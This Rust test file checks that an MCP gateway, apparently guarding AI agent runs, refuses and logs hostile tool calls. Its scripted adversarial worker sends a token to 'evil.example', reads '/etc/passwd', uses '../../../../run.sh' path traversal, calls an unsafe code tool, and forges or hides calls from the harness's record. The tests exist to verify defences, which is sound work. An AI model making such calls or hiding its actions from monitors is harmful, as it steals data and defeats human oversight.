//! The gateway through `persona run`, with the fake worker acting as a harness whose hook did not
//! run (it calls the MCP server its config names directly) and the test kit's stub browser as
//! the real server. The stub's call log is the witness: a call the gateway refused is not in it.

use crate::kit::*;

fn mcp_config(sb: &Sandbox) -> std::path::PathBuf {
    let browser = sb.stub_browser("browser");
    sb.write_claude_mcp_config(&browser)
}

fn run(sb: &Sandbox, harness: &str, extra: &[&str]) -> std::process::Output {
    let cfg = mcp_config(sb);
    let cfg = cfg.display().to_string();
    let mut args = vec!["--mcp-config", cfg.as_str()];
    args.extend_from_slice(extra);
    sb.run_cmd(harness, &args).output().unwrap()
}

fn gateway_record(sb: &Sandbox) -> Vec<serde_json::Value> {
    let dir = sb.run_dirs().pop().expect("a run dir");
    std::fs::read_to_string(dir.join("gateway.jsonl"))
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

/// Off-allowlist and irreversible calls never reach the server, on both harnesses, boxed and
/// not; the worker reads the guard's reason in an MCP tool error; the journal records denials
/// (not violations) and the run ends clean.
#[test]
fn the_gateway_refuses_what_the_guard_would_and_the_server_never_sees_it() {
    for (harness, unboxed) in [("codex", false), ("claude", false), ("codex", true)] {
        let sb = if unboxed {
            Sandbox::unboxed()
        } else {
            Sandbox::with_user_files()
        };
        let browser = sb.stub_browser("browser");
        sb.set_script(&mcp_script(&[
            mcp_navigate("https://staging.example.com/cart"),
            mcp_navigate("https://evil.example/x?token=1"),
            ("click", serde_json::json!({"label": "Place order"})),
            mcp_navigate("https://staging.example.com/checkout/confirm"),
        ]));
        let before = sb.snapshot();
        let junit = sb.root.join("junit.xml");
        let out = run(&sb, harness, &["--junit", junit.to_str().unwrap()]);
        assert_eq!(out.status.code(), Some(0), "{harness}: {}", stderr(&out));
        // The witness: only the allowed call reached the server.
        let seen = browser.seen();
        assert_eq!(seen.len(), 1, "{harness}: {seen:?}");
        assert_eq!(seen[0].1["url"], "https://staging.example.com/cart");
        // What the worker read: the guard's own message in a tool error.
        let results = sb.results_lines();
        assert_eq!(results.len(), 4, "{results:?}");
        assert_eq!(results[0]["is_error"], false);
        for (r, reason) in results[1..].iter().zip([
            "outside_allowlist",
            "irreversible_label",
            "irreversible_path",
        ]) {
            assert_eq!(r["is_error"], true, "{r}");
            let text = r["text"].as_str().unwrap();
            assert!(text.starts_with("Leopold persona guard: "), "{text}");
            assert!(text.ends_with(&format!("(reason: {reason})")), "{text}");
        }
        // The tool list the worker was offered: the stub's three tools, all on the list, and
        // Leopold's own two.
        assert_eq!(
            results[0]["tools"],
            serde_json::json!(["navigate", "click", "type", "report_finding", "finish"])
        );
        // The journal: three denials with their reasons, no violation; the run is clean.
        let journal = sb.journal();
        let outcomes: Vec<&str> = journal[1..]
            .iter()
            .map(|a| a["outcome"].as_str().unwrap())
            .collect();
        assert_eq!(
            outcomes,
            ["completed", "denied", "denied", "denied"],
            "{journal:?}"
        );
        assert_eq!(journal[2]["denied_reason"], "outside_allowlist");
        assert!(journal
            .iter()
            .all(|a| a.get("verdict").is_none_or(|v| v["verdict"] != "violation")));
        let rj = sb.run_json();
        assert_eq!(rj["end"]["outcome"], "clean", "{rj}");
        assert!(rj["end"].get("gateway_mismatches").is_none(), "{rj}");
        // The gateway's own record: what the server was asked, hosts only.
        let rec = gateway_record(&sb);
        let calls: Vec<&serde_json::Value> = rec.iter().filter(|l| l["event"] == "call").collect();
        assert_eq!(calls.len(), 4, "{rec:?}");
        assert_eq!(calls[0]["verdict"], "allowed");
        assert_eq!(calls[1]["reason"], "outside_allowlist");
        let text = serde_json::to_string(&rec).unwrap();
        assert!(
            !text.contains("https://") && !text.contains("token"),
            "{text}"
        );
        // Hash-chained from its first line, its head in run.json; `persona replay` checks both.
        let dir = sb.run_dirs().pop().unwrap();
        let file = std::fs::File::open(dir.join("gateway.jsonl")).unwrap();
        let chain =
            leopold_journal::chain::check_lines(std::io::BufReader::new(file), 1 << 20).unwrap();
        assert_eq!(
            (chain.lines, chain.breaks),
            (rec.len() as u64, 0),
            "{rec:?}"
        );
        assert_eq!(
            rj["end"]["gateway_hash"].as_str(),
            Some(chain.head.unwrap().to_string().as_str()),
            "{rj}"
        );
        // The same head in the report and in the JUnit case's properties.
        let head = chain.head.unwrap().to_string();
        let html = std::fs::read_to_string(dir.join("report.html")).unwrap();
        assert!(
            html.contains("Gateway record hash") && html.contains(&head),
            "{harness}"
        );
        let xml = std::fs::read_to_string(&junit).unwrap();
        assert!(
            xml.contains(&format!(
                r#"<property name="gateway_hash" value="{head}"/>"#
            )),
            "{xml}"
        );
        let replay = sb
            .leopold(&["persona", "replay", dir.to_str().unwrap()])
            .output()
            .unwrap();
        assert_exit_code(&replay, 0);
        assert!(
            stdout(&replay).contains(&format!(
                "replay: gateway record ({} lines): hash chain intact",
                rec.len()
            )),
            "{}",
            stdout(&replay)
        );
        // The project and HOME are as they were (the run's own record aside).
        let after = sb.snapshot();
        assert_eq!(before, after, "{harness}");
    }
}

/// A server that offers more than a persona needs: the gateway lists only what is on its list
/// and refuses a call to anything else, and malformed messages get a named refusal. The calls
/// sent behind the harness's back leave its stream: the run is `violated` for the one the
/// gateway judged and denied, which the stream never showed.
#[test]
fn tools_off_the_list_and_malformed_messages_are_refused() {
    let sb = Sandbox::with_user_files();
    let browser = sb.stub_browser("browser");
    sb.set_script(
        "@mcp browser webmcp_place_order {}\n\
         @mcp browser browser_run_code_unsafe {\"code\":\"x\"}\n\
         @mcp-raw browser [{\"jsonrpc\":\"2.0\",\"id\":5,\"method\":\"tools/call\",\"params\":{\"name\":\"navigate\",\"arguments\":{\"url\":\"https://evil.example/\"}}}]\n\
         @mcp-raw browser {\"jsonrpc\":\"2.0\",\"id\":6,\"method\":\"tools/call\",\"params\":{\"name\":\"navigate\",\"arguments\":\"https://evil.example/\"}}\n\
         @mcp-raw browser {\"jsonrpc\":\"2.0\",\"id\":7,\"method\":\"resources/read\",\"params\":{\"uri\":\"file:///etc/passwd\"}}\n\
         @exit 0\n",
    );
    let out = run(&sb, "codex", &[]);
    assert_exit_code(&out, 1);
    assert!(browser.seen().is_empty(), "{:?}", browser.seen());
    assert_eq!(
        sb.run_json()["end"]["reason"],
        "the gateway's record disagrees with the harness's stream: the gateway denied a `mcp__browser__navigate` call (gateway_unjudgeable) that the harness's stream never showed"
    );
    let r = sb.results_lines();
    // Each result line's text at `pointer`: ending with `want`, or (`anywhere`) holding it.
    for (i, pointer, want, anywhere) in [
        (0, "/text", "(reason: tool_not_listed)", false),
        (1, "/text", "(reason: tool_not_listed)", false),
        (2, "/answer/error/message", "refused", true),
        (
            3,
            "/answer/result/content/0/text",
            "(reason: gateway_unjudgeable)",
            false,
        ),
        (4, "/answer/error/message", "does not pass on", true),
    ] {
        let text = r[i].pointer(pointer).and_then(|t| t.as_str());
        let text = text.unwrap_or_else(|| panic!("no {pointer}: {}", r[i]));
        let found = if anywhere {
            text.contains(want)
        } else {
            text.ends_with(want)
        };
        assert!(found, "{}", r[i]);
    }
    // The roots the stub could have asked for are the gateway's to answer: the worker's client
    // was never asked.
    assert!(r.iter().all(|x| x
        .get("roots_asked")
        .is_none_or(|v| v == &serde_json::json!([]))));
}

/// The adversary speaks JSON-RPC shapes a harness never sends: a `tools/call` without an id (a
/// notification, which nothing could answer) for an off-allowlist navigation and for a click on
/// "Place order", and a second request under an id still in flight (whose answer would have
/// been taken for the first's). The stub's own log is the witness: only the first request of the
/// reused id reached it; `gateway.jsonl` records each refusal.
#[test]
fn a_notification_call_and_a_reused_id_never_reach_the_server_and_are_recorded() {
    let sb = Sandbox::with_user_files();
    let browser = sb.stub_browser("browser");
    let call = |id: Option<u32>, tool: &str, args: serde_json::Value| {
        let mut m = serde_json::json!({"jsonrpc":"2.0","method":"tools/call","params":{"name":tool,"arguments":args}});
        if let Some(id) = id {
            m["id"] = id.into();
        }
        m
    };
    let msgs = serde_json::json!([
        call(
            None,
            "navigate",
            serde_json::json!({"url": "https://evil.example/x"})
        ),
        call(None, "click", serde_json::json!({"label": "Place order"})),
        call(
            Some(9),
            "navigate",
            serde_json::json!({"url": "https://staging.example.com/cart"})
        ),
        call(
            Some(9),
            "navigate",
            serde_json::json!({"url": "https://staging.example.com/checkout"})
        ),
    ]);
    sb.set_script(&format!("@mcp-send browser {msgs}\n@exit 0\n"));
    let out = run(&sb, "codex", &[]);
    // The one call forwarded was sent behind the harness's stream: the records disagree, which
    // is a violation of its own.
    assert_exit_code(&out, 1);
    assert_has(&stderr(&out), "does not show with those arguments");
    let seen = browser.seen();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(seen[0].1["url"], "https://staging.example.com/cart");
    // What the worker read: the first 9's answer and a refusal of the second; nothing for the
    // notifications.
    let r = sb.results_lines();
    let answers = r[0]["answers"]
        .as_array()
        .unwrap_or_else(|| panic!("{}", r[0]));
    assert_eq!(answers.len(), 2, "{answers:?}");
    assert!(answers.iter().all(|a| a["id"] == 9), "{answers:?}");
    assert!(
        answers.iter().any(|a| a["error"]["message"]
            .as_str()
            .is_some_and(|m| m.contains("already in flight"))),
        "{answers:?}"
    );
    assert!(
        answers.iter().any(|a| a["result"].is_object()),
        "{answers:?}"
    );
    let rec = gateway_record(&sb);
    let refused: Vec<&serde_json::Value> = rec.iter().filter(|l| l["event"] == "message").collect();
    assert_eq!(refused.len(), 3, "{rec:?}");
    for (l, tool) in refused[..2].iter().zip(["navigate", "click"]) {
        assert_eq!(
            (
                l["verdict"].as_str(),
                l["method"].as_str(),
                l["tool"].as_str()
            ),
            (Some("denied"), Some("tools/call"), Some(tool)),
            "{l}"
        );
        assert!(
            l["detail"].as_str().unwrap().contains("notification"),
            "{l}"
        );
    }
    assert!(refused[2]["detail"]
        .as_str()
        .unwrap()
        .contains("already in flight"));
    // The call that went through is recorded with its own answer.
    let calls: Vec<_> = rec.iter().filter(|l| l["event"] == "call").collect();
    let results: Vec<_> = rec.iter().filter(|l| l["event"] == "result").collect();
    assert_eq!((calls.len(), results.len()), (1, 1), "{rec:?}");
    assert_eq!(calls[0]["seq"], results[0]["seq"]);
}

/// One server process for the run, however many connections: three sessions, one after the
/// other (as a harness restarting its MCP client would open them), reach the same process of the
/// stub, by its own log; and none of it is left after the run.
#[test]
fn the_runs_connections_share_one_server_process() {
    let sb = Sandbox::with_user_files();
    let browser = sb.stub_browser("browser");
    sb.set_script(&mcp_script(&[
        mcp_navigate("https://staging.example.com/a"),
        mcp_navigate("https://staging.example.com/b"),
        mcp_navigate("https://staging.example.com/c"),
    ]));
    let out = run(&sb, "codex", &[]);
    assert_exit_code(&out, 0);
    let calls = browser.calls();
    assert_eq!(calls.len(), 3, "{calls:?}");
    let pids: std::collections::BTreeSet<u64> =
        calls.iter().map(|c| c["pid"].as_u64().unwrap()).collect();
    assert_eq!(pids.len(), 1, "one process of the server: {calls:?}");
    let pid = *pids.first().unwrap();
    // Gone, or at most a zombie waiting for a reaper of the test's own (not running).
    let state = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
    let state = state.rsplit_once(") ").map(|(_, r)| &r[..1]);
    assert!(
        state.is_none_or(|s| s == "Z"),
        "the server outlived the run: state {state:?}"
    );
    // Each session got its own answers.
    let r = sb.results_lines();
    assert_eq!(r.len(), 3, "{r:?}");
    assert!(r.iter().all(|x| x["is_error"] == false), "{r:?}");
}

/// A `filename` aimed at a project file is refused before the server sees it; the file is
/// unchanged.
#[test]
fn a_filename_outside_the_output_folder_is_refused() {
    let sb = Sandbox::with_user_files();
    let browser = sb.stub_browser("browser");
    let target = sb.project.join("run.sh");
    std::fs::write(&target, "#!/bin/sh\necho hi\n").unwrap();
    sb.set_script(&format!(
        "@mcp browser type {}\n@mcp browser type {}\n@exit 0\n",
        serde_json::json!({"selector": "#q", "text": "x", "filename": target}),
        serde_json::json!({"selector": "#q", "text": "x", "filename": "../../../../run.sh"}),
    ));
    let out = run(&sb, "codex", &[]);
    assert_exit_code(&out, 0);
    assert!(browser.seen().is_empty(), "{:?}", browser.seen());
    for r in sb.results_lines() {
        assert!(
            r["text"]
                .as_str()
                .unwrap()
                .ends_with("(reason: filename_outside_output)"),
            "{r}"
        );
    }
    assert_eq!(
        std::fs::read_to_string(&target).unwrap(),
        "#!/bin/sh\necho hi\n"
    );
}

/// The run's own JUnit file and report for a run that ended `violated` by the gateway's record:
/// the JUnit case fails with the disagreement as its message; the report shows it.
fn assert_reported_violated(sb: &Sandbox, junit: &std::path::Path, reason: &str) {
    let xml = std::fs::read_to_string(junit).unwrap();
    assert!(
        xml.contains("<failure message=\"the gateway&apos;s record disagrees with the harness&apos;s stream: ")
            || xml.contains("<failure message=\"the gateway's record disagrees with the harness's stream: "),
        "{xml}"
    );
    assert_has(&xml, "type=\"violated\"");
    let report = std::fs::read_to_string(sb.run_dirs().pop().unwrap().join("report.html")).unwrap();
    assert_has(&report, "class=\"outcome violated\"");
    assert!(report.contains("gateway-mismatches"), "the report names it");
    assert!(
        report.contains(&reason.replace('\'', "&#39;")) || report.contains(reason),
        "{reason} not in the report"
    );
    assert!(!report.contains("https://staging"), "a URL in the report");
}

/// A forged stream with the same tool counts as the gateway's record: the gateway forwarded a
/// navigation to `/checkout/pay` (the stub's log is the witness), the stream shows one to `/`.
/// Counted by tool the two agree; call by call they do not, and the run is `violated`, exit 1,
/// with the first disagreement (tool, seq, no URL) as its reason in run.json, `run_ended`, the
/// report and the JUnit file.
#[test]
fn a_forged_stream_with_the_same_tool_counts_is_a_violation() {
    let sb = Sandbox::with_user_files();
    let browser = sb.stub_browser("browser");
    let forged = serde_json::json!({"type":"item.completed","item":{"id":"item_forged","type":"mcp_tool_call",
        "server":"browser","tool":"navigate","arguments":{"url":"https://staging.example.com/"},"status":"completed"}});
    sb.set_script(&format!(
        "@mcp-raw browser {}\n{forged}\n@exit 0\n",
        serde_json::json!({"jsonrpc":"2.0","id":9,"method":"tools/call","params":{"name":"navigate","arguments":{"url":"https://staging.example.com/checkout/pay?card=1"}}})
    ));
    let junit = sb.root.join("junit.xml");
    let out = run(
        &sb,
        "codex",
        &["--json", "--junit", junit.to_str().unwrap()],
    );
    assert_exit_code(&out, 1);
    // The witness: the server was asked for /checkout/pay, once; the journal says `/`.
    let seen = browser.seen();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(
        seen[0].1["url"],
        "https://staging.example.com/checkout/pay?card=1"
    );
    let journal = sb.journal();
    assert_eq!(journal.len(), 2, "{journal:?}");
    assert_eq!(journal[1]["urls"][0]["path"], "/");
    let rj = sb.run_json();
    assert_eq!(rj["end"]["outcome"], "violated", "{rj}");
    assert_eq!(rj["end"]["exit_code"], 1, "{rj}");
    let reason = rj["end"]["reason"].as_str().unwrap();
    assert_eq!(
        reason,
        "the gateway's record disagrees with the harness's stream: the harness's stream shows a `mcp__browser__navigate` call completed (journal #1) that the gateway never forwarded with those arguments"
    );
    let mismatches = rj["end"]["gateway_mismatches"].as_array().unwrap();
    assert_eq!(mismatches.len(), 2, "{rj}");
    assert!(
        mismatches[1]
            .as_str()
            .unwrap()
            .contains("the gateway forwarded a `mcp__browser__navigate` call (gateway #1)"),
        "{rj}"
    );
    let findings = rj["end"]["findings"].as_array().unwrap();
    assert!(
        findings
            .iter()
            .any(|f| f["kind"] == "violation" && f["seq"] == 1),
        "{rj}"
    );
    let text = rj.to_string();
    assert!(!text.contains("://") && !text.contains("card"), "{text}");
    let ended: serde_json::Value = stdout(&out)
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .find(|v| v["event"] == "run_ended")
        .unwrap();
    assert_eq!(ended["outcome"], "violated");
    assert_eq!(ended["gateway_mismatches"], rj["end"]["gateway_mismatches"]);
    assert_reported_violated(&sb, &junit, "journal #1");
    // Replay reads the disagreements the run wrote into its chained record: exit 1, each named.
    let dir = sb.run_dirs().pop().unwrap();
    let replay = sb
        .leopold(&["persona", "replay", dir.to_str().unwrap()])
        .output()
        .unwrap();
    assert_exit_code(&replay, 1);
    let text = stdout(&replay);
    assert!(
        text.contains("gateway.jsonl:3: violation: the gateway's record disagrees with the harness's stream: the harness's stream shows a `mcp__browser__navigate` call completed (journal #1)")
            && text.contains("gateway.jsonl:4: violation: ")
            && text.contains(", 2 disagreements between the stream and the gateway record")
            && text.contains("hash chain intact"),
        "{text}"
    );
}

/// A call the gateway forwarded that the stream never shows (the worker calling the server
/// behind the harness's back) is a violation too, not a warning: exit 1, the hidden call named
/// by tool and the gateway record's seq. The honest call beside it agrees.
#[test]
fn a_call_hidden_from_the_stream_is_a_violation() {
    for harness in ["codex", "claude"] {
        let sb = Sandbox::with_user_files();
        let browser = sb.stub_browser("browser");
        sb.set_script(&format!(
            "@mcp browser navigate {}\n@mcp-raw browser {}\n@exit 0\n",
            serde_json::json!({"url": "https://staging.example.com/cart"}),
            serde_json::json!({"jsonrpc":"2.0","id":9,"method":"tools/call","params":{"name":"type","arguments":{"selector":"#q","text":"x"}}})
        ));
        let junit = sb.root.join("junit.xml");
        let out = run(&sb, harness, &["--junit", junit.to_str().unwrap()]);
        assert_eq!(out.status.code(), Some(1), "{harness}: {}", stderr(&out));
        assert_eq!(browser.seen().len(), 2, "{harness}");
        let e = stderr(&out);
        assert!(
            e.contains("gateway record: the gateway forwarded a `mcp__browser__type` call (gateway #2) that the harness's stream does not show"),
            "{harness}: {e}"
        );
        let rj = sb.run_json();
        assert_eq!(rj["end"]["outcome"], "violated", "{harness}: {rj}");
        assert_eq!(
            rj["end"]["gateway_mismatches"].as_array().unwrap().len(),
            1,
            "{harness}: {rj}"
        );
        assert!(
            rj["end"]["reason"]
                .as_str()
                .unwrap()
                .contains("(gateway #2)"),
            "{harness}: {rj}"
        );
        assert_reported_violated(&sb, &junit, "gateway #2");
    }
}

/// The real server runs outside the box, a child of the supervisor: a SIGKILLed supervisor takes
/// it along (the kernel's parent-death signal), even a server that would outlive its stdin (a
/// shell that sleeps on after the stub); what it started itself carries the run's id, and
/// `persona recover` stops it, so nothing of the run is left.
#[test]
fn a_sigkilled_supervisor_takes_the_gateways_servers_with_it() {
    let sb = Sandbox::scripted("@mcp-hold browser 60000\n@exit 0\n");
    let stub = sb.stub_browser("browser");
    let cfg = sb.logs.join("stubborn-mcp.json");
    let sh = format!(
        "'{}' --log '{}'; sleep 600",
        stub.bin.display(),
        stub.log.display()
    );
    std::fs::write(
        &cfg,
        serde_json::json!({"mcpServers": {"browser": {"command": "/bin/sh", "args": ["-c", sh]}}})
            .to_string(),
    )
    .unwrap();
    let mut child = sb
        .run_cmd("codex", &["--mcp-config", cfg.to_str().unwrap()])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    wait_for(20, "the worker's MCP session", || {
        !sb.results_lines().is_empty()
    });
    assert_eq!(
        sb.results_lines()[0]["ok"],
        true,
        "{:?}",
        sb.results_lines()
    );
    let run_id = active_run_id(&sb);
    let of_run = |what: &str| {
        processes_of_run(&run_id)
            .into_iter()
            .filter(|p| {
                std::fs::read(format!("/proc/{p}/cmdline"))
                    .is_ok_and(|c| String::from_utf8_lossy(&c).contains(what))
            })
            .collect::<Vec<u32>>()
    };
    // The shell is the gateway's direct child, outside the box.
    let shells = of_run("; sleep 600");
    assert_eq!(shells.len(), 1, "{:?}", processes_of_run(&run_id));
    signal(child.id(), "KILL");
    let _ = child.wait();
    wait_for(5, "the server to die with the supervisor", || {
        !alive(shells[0])
    });
    let out = sb.recover();
    assert_exit_code(&out, 0);
    wait_for(5, "nothing of the run left", || {
        processes_of_run(&run_id).is_empty()
    });
}

/// `persona mcp-relay` is bytes both ways, nothing more, and exits when either side closes: the
/// harness closing its stdin, or the gateway closing the socket.
#[test]
fn the_relay_copies_bytes_and_exits_when_either_side_closes() {
    use std::io::{BufRead as _, Read as _, Write as _};
    use std::os::unix::net::UnixListener;
    use std::process::{Command, Stdio};
    let dir = tempfile::tempdir().unwrap();
    let sock = dir.path().join("mcp-browser.sock");
    let listener = UnixListener::bind(&sock).unwrap();
    let relay = || {
        Command::new(LEOPOLD)
            .args(["persona", "mcp-relay", "--socket"])
            .arg(&sock)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap()
    };
    // The harness side closes first.
    let mut child = relay();
    let (mut conn, _) = listener.accept().unwrap();
    let mut stdin = child.stdin.take().unwrap();
    stdin
        .write_all(b"{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"ping\"}\n")
        .unwrap();
    let mut line = String::new();
    std::io::BufReader::new(&conn).read_line(&mut line).unwrap();
    assert_eq!(
        line, "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"ping\"}\n",
        "verbatim"
    );
    conn.write_all(b"{\"jsonrpc\":\"2.0\",\"id\":1,\"result\":{}}\n")
        .unwrap();
    let mut out = child.stdout.take().unwrap();
    let mut got = [0u8; 36];
    out.read_exact(&mut got).unwrap();
    assert_eq!(&got[..], b"{\"jsonrpc\":\"2.0\",\"id\":1,\"result\":{}}");
    drop(stdin);
    let st = wait_exit(&mut child);
    assert_eq!(st.code(), Some(0));
    let mut rest = Vec::new();
    let _ = conn.read_to_end(&mut rest);
    assert!(rest.is_empty(), "the gateway saw the end");
    // The gateway side closes first: the relay exits though its stdin stays open.
    let mut child = relay();
    let (conn, _) = listener.accept().unwrap();
    drop(conn);
    let st = wait_exit(&mut child);
    assert_eq!(st.code(), Some(0));
    // No gateway at all: exit 1, saying why.
    drop(listener);
    std::fs::remove_file(&sock).unwrap();
    let out = relay().wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("cannot connect"));
}

fn wait_exit(child: &mut std::process::Child) -> std::process::ExitStatus {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
    loop {
        if let Some(st) = child.try_wait().unwrap() {
            return st;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the relay did not exit"
        );
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
}
